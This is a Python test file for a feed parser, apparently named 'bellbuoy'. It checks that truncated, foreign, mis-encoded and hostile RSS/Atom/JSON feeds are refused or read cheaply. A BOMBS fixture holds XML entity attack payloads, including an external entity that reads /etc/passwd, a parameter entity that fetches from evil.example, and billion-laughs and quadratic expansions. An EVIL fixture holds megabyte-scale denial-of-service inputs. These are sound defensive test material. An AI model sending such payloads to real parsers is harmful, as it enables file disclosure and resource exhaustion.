"""Feeds that are cut, foreign, lying or hostile: what is refused, and what it costs."""

import gc
import io
from contextlib import suppress
from functools import partial
from xml.sax.saxutils import escape

import feedparser
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bellbuoy.errors import ReadError, Unreadable
from bellbuoy.exchange import Response
from bellbuoy.formats import _syndication, feed
from tests.formats.feeds import DOCUMENTS, FIXTURES, URL, after, history, read, refused, update_html
from tests.moments import least_cpu

# --- What is refused ------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["history.atom", "incidentio.rss", "plain.atom", "blog.json"])
def test_h7_a_feed_cut_at_any_byte_is_refused_or_was_whole(name):
    """Never a shorter feed, never an event that nobody wrote."""
    body = (FIXTURES / name).read_bytes()
    whole = read(body)
    end = len(body.rstrip())
    for length in range(len(body)):
        if length >= end:
            assert read(body[:length]) == whole
            continue
        error = refused(body[:length])
        is_named = error.reason in {Unreadable.CUT, Unreadable.NOT_THE_FORMAT}
        assert is_named, (length, error)
        if length > 100:
            assert error.reason is Unreadable.CUT, (length, error)


def test_h7_a_feed_cut_right_behind_a_comment_or_inside_a_text_is_refused():
    """Where a body only seems to end as a feed does."""
    start = b"<rss><channel><title>t</title><item><title>a & b</title></item>"
    for end in (b"<!-- x -->", b"<item><title><![CDATA[</rss>", b"<item><title>x<!-- </rss>"):
        assert refused(start + end).reason is Unreadable.CUT
    assert read(start + b"</channel></rss><!-- x --> <!-- y -->\n").incidents[0].title == "a & b"


CHALLENGE = b"<!DOCTYPE html><html><head><title>Just a moment...</title></head><body></body></html>"


@pytest.mark.parametrize(
    ("body", "status", "reason"),
    [
        (CHALLENGE, 200, Unreadable.BLOCKED),
        (b"\n<!-- x -->" + CHALLENGE, 200, Unreadable.BLOCKED),
        (b"<html><body><div class='g-recaptcha'></div></body></html>", 200, Unreadable.BLOCKED),
        (b"<!doctype HTML><title>Please wait</title>", 202, Unreadable.BLOCKED),
        (b"<!DOCTYPE html><title>Acme</title><p>Welcome", 200, Unreadable.NOT_THE_FORMAT),
        (b"", 200, Unreadable.CUT),
        (b" \n ", 200, Unreadable.CUT),
        (b'{"page": {"id": "x"}}', 200, Unreadable.NOT_THE_FORMAT),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": [{', 200, Unreadable.CUT),
        (b"<urlset></urlset>", 200, Unreadable.NOT_THE_FORMAT),
        (b"<feed><entry/></feed>", 200, Unreadable.NOT_THE_FORMAT),
        (b"<rss version='2.0'></rss>", 200, Unreadable.NOT_THE_FORMAT),
        (b"all fine", 200, Unreadable.NOT_THE_FORMAT),
    ],
)
def test_h6_an_answer_that_is_not_positively_a_feed_is_refused_with_its_reason(
    body, status, reason
):
    """A challenge page is a good empty feed to feedparser; it must not be to us."""
    assert refused(body, status=status).reason is reason


BOMBS = {
    "external": '[<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel>',
    "laughs": '[<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><rss><channel><title>&b;</title></channel>',
    "quadratic": f'[<!ENTITY a "{"x" * 100_000}">]><rss><channel>{"&a;" * 100_000}</channel>',
    "attributes": '[<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><rss version="&b;"><channel/>',
    "parameter": '[<!ENTITY % p SYSTEM "http://evil.example/">%p;]><rss><channel/>',
}


@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", BOMBS)
def test_x1_a_document_type_with_entities_is_refused_before_it_is_parsed(name, codec):
    """No file is opened, no address asked, nothing grows."""
    body = f'<?xml version="1.0"?><!-- x --><!DOCTYPE rss {BOMBS[name]}</rss>'.encode(codec)
    assert refused(body).place == "the document type"
    assert least_cpu(lambda: refused(body), enough=1) < 1


def test_x1_a_document_type_without_entities_is_only_a_name():
    """RSS 0.91 named one."""
    body = b'<!DOCTYPE rss PUBLIC "-//N//DTD RSS 0.91//EN" "http://n.example/rss-0.91.dtd">'
    body += b"<rss><channel><title>t</title></channel></rss>"
    assert read(body).name == "t"


# --- Encodings ------------------------------------------------------------------------------

TEXT = "Störung bei der Anmeldung"
ENCODINGS = {
    "utf-8": "utf-8",
    "utf-8 with mark": "utf-8-sig",
    "utf-16": "utf-16",
    "utf-16 big end first": "utf-16-be",
    "iso-8859-1": "iso-8859-1",
    "iso-8859-15": "iso-8859-15",
}
LIES = ["header", "declaration", "nothing said"]


@pytest.mark.parametrize("lie", LIES)
@pytest.mark.parametrize("name", ENCODINGS)
def test_x4_the_same_text_comes_out_of_every_encoding_and_through_every_lie(name, lie):
    """Mark before header before declaration, and a claim must prove itself."""
    codec = ENCODINGS[name]
    true = codec.removesuffix("-sig")
    wrong = "utf-8" if true != "utf-8" else "iso-8859-1"
    declared = {"header": true, "declaration": wrong, "nothing said": true}[lie]
    header = {"header": wrong, "declaration": true, "nothing said": ""}[lie]
    body = (
        f'<?xml version="1.0" encoding="{declared}"?><rss><channel><title>{TEXT}</title>'
        "</channel></rss>"
    ).encode(codec)
    content_type = f"text/xml; charset={header}" if header else "text/xml"
    assert read(body, content_type=content_type).name == TEXT


def test_x4_bytes_of_no_encoding_never_end_a_feed():
    """What cannot be read shows as replaced, and the rest stays."""
    body = b"<rss><channel><title>ok \xff\xfe\x81</title></channel></rss>"
    assert read(body).name.startswith("ok")


# --- What a hostile feed costs --------------------------------------------------------------

SIZE = 1_000_000


def much(text: str) -> str:
    """A text again and again, about a megabyte of it."""
    return (text * (SIZE // len(text) + 1))[:SIZE]


EVIL = {
    "less-than": much("<"),
    "ampersands": much("&"),
    "open references": much("&#x1"),
    "digits in a reference": "&#" + much("9"),
    "hex in a reference": "&#x" + much("f"),
    "long names of references": much("&aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
    "blanks": much(" "),
    "lines": much("\n"),
    "bold": much("<b>"),
    "boxes": much("<div>"),
    "ends without beginnings": much("</a>"),
    "nested links": much("<a href=http://x>y"),
    "one tag with 90,000 attributes": "<a " + " ".join(f"a{n}=1" for n in range(90_000)) + ">",
    "an open quote": '<a b="' + much("x"),
    "quotes": "<a " + much('"'),
    "quotes that never match": much("<a b='"),
    "comments": much("<!--"),
    "short comments": much("<!-->"),
    "sections": much("<![CDATA["),
    "scripts": much("<script>"),
    "scripts that almost end": much("<script></scrip"),
    "small": much("<small>"),
    "strong": much("<strong>"),
    "headings without dates": much("<p><small>x</small><strong>"),
    "updates": much("<p><small>May 28, 20:41 UTC</small><br><strong>Update</strong> - x</p>"),
    "items": much("<li>"),
    "breaks": much("<br>"),
    "equal signs": "<a " + much("="),
    "one word": much("a"),
    "components": much("<b>Affected components</b><ul><li>A (B)</li></ul>"),
}


@pytest.mark.parametrize("name", EVIL)
def test_x3_a_megabyte_of_evil_takes_a_moment(name, full_profile):
    """In the text of each shape, and in a title: half a second, with room for a busy machine."""
    assert len(EVIL) == 30
    body = escape(EVIL[name])
    whole = history("@@").decode()
    shapes = [
        whole.replace("@@", body),
        whole.replace("tag:status.acme.example,2005:/history", "x").replace("@@", body),
        whole.replace("tag:status.acme.example,2005:/history", "x")
        .replace("<title>Acme", "<generator>incident.io</generator><title>Acme")
        .replace("@@", body),
        whole.replace("Trouble", body),
    ]
    for shape in shapes if full_profile else shapes[:1]:
        raw = shape.encode()
        assert least_cpu(partial(read, raw), enough=2) < 2


@pytest.mark.parametrize("name", EVIL)
def test_x3_a_megabyte_of_evil_outside_of_any_entry_takes_a_moment(name, full_profile):
    """Instead of the feed, and around what says that it is one."""

    def attempt(body: bytes) -> None:
        with suppress(ReadError):
            read(body)

    raw = EVIL[name].encode()
    for body in (
        raw,
        b"<rss><channel>" + raw + b"</channel></rss>",
        b"Warning <rss><channel>" + raw[: 100_000 if full_profile else 20_000] + b"</rss>",
    ):
        assert least_cpu(partial(attempt, body), enough=2) < 2


def test_twenty_five_entries_without_news_cost_an_eighth_of_feedparser_at_most():
    """A new ETag over the same entries is the most common answer there is."""
    lines = "".join(
        update_html(f"May 28, {hour:02}:00 UTC", "Update", "We are looking into it. " * 12)
        for hour in range(23, 16, -1)
    )
    whole = history(lines).decode()
    entry = whole[whole.index("<entry>") : whole.index("</feed>")]
    entries = "".join(entry.replace("abc123def456", f"abc{n:09}") for n in range(25))
    body = whole.replace(entry, entries).encode()
    seen = after(read(body))

    gc.collect()
    ours = least_cpu(lambda: [read(body, seen) for _ in range(10)]) / 10
    theirs = least_cpu(lambda: feedparser.parse(io.BytesIO(body)))
    assert read(body, seen).incidents == ()
    assert theirs / ours >= 8, f"{ours * 1000:.2f} ms against {theirs * 1000:.1f} ms"


def test_a_title_that_never_ends_in_a_broken_feed_is_no_bug():
    """Found by mutation: feedparser gives the texts around it no value at all."""
    body = (FIXTURES / "plain.atom").read_bytes().replace(b"<?xml", b"<??xml")
    broken = body.replace(b"ating] Login &amp;amp; sign-up failures</title>", b"/title>")
    assert broken != body
    assert all(incident.id for incident in read(broken).incidents)


# --- Anything at all ------------------------------------------------------------------------


@st.composite
def mutations(draw):
    """A good document with some of its bytes changed, moved, doubled or gone."""
    body = bytearray((FIXTURES / draw(st.sampled_from(DOCUMENTS))).read_bytes())
    for _ in range(draw(st.integers(1, 6))):
        place = draw(st.integers(0, len(body)))
        length = draw(st.integers(0, 40))
        with_ = draw(
            st.one_of(
                st.binary(max_size=8),
                st.sampled_from(
                    [b"<", b">", b"&", b"]]>", b"<![CDATA[", b"\0", b"</entry>", b"\xff"]
                ),
                st.just(bytes(body[place : place + length]) * 2),
            )
        )
        body[place : place + length] = with_
    return bytes(body)


@given(mutations(), st.sampled_from(["", "text/xml; charset=utf-16", "x; charset=idna"]))
def test_h7_a_changed_document_is_read_or_refused_and_nothing_else(body, content_type):
    """Only ReadError leaves the format, whatever the bytes."""
    response = Response(url=URL, status=200, headers={"content-type": content_type}, body=body)
    feed.claims(response)
    try:
        found = read(body, content_type=content_type)
    except ReadError:
        return
    assert read(body, content_type=content_type) == found
    for incident in found.incidents:
        assert incident.id
        assert len({update.id for update in incident.updates}) == len(incident.updates)


@given(st.binary(max_size=300))
def test_h7_any_bytes_are_read_or_refused(body):
    """And claimed by nobody by chance."""
    assert feed.claims(Response(url=URL, status=200, body=body)) is None
    refused(body)


@given(st.text("&amp;#x0a\x00 é", max_size=400), st.integers(35, 60))
def test_x2_a_text_mended_in_slices_is_the_text_mended_at_once(text, size):
    """No slice ends within a reference, wherever the ampersands stand."""
    assert "".join(_sliced(text, size)) == text
    clean = text.replace("\x00", "")
    assert "".join(map(_syndication._mended, _sliced(clean, size))) == _syndication._mended(clean)


def _sliced(text, size):
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(_syndication, "_SLICE", size)
        return list(_syndication._slices(text))
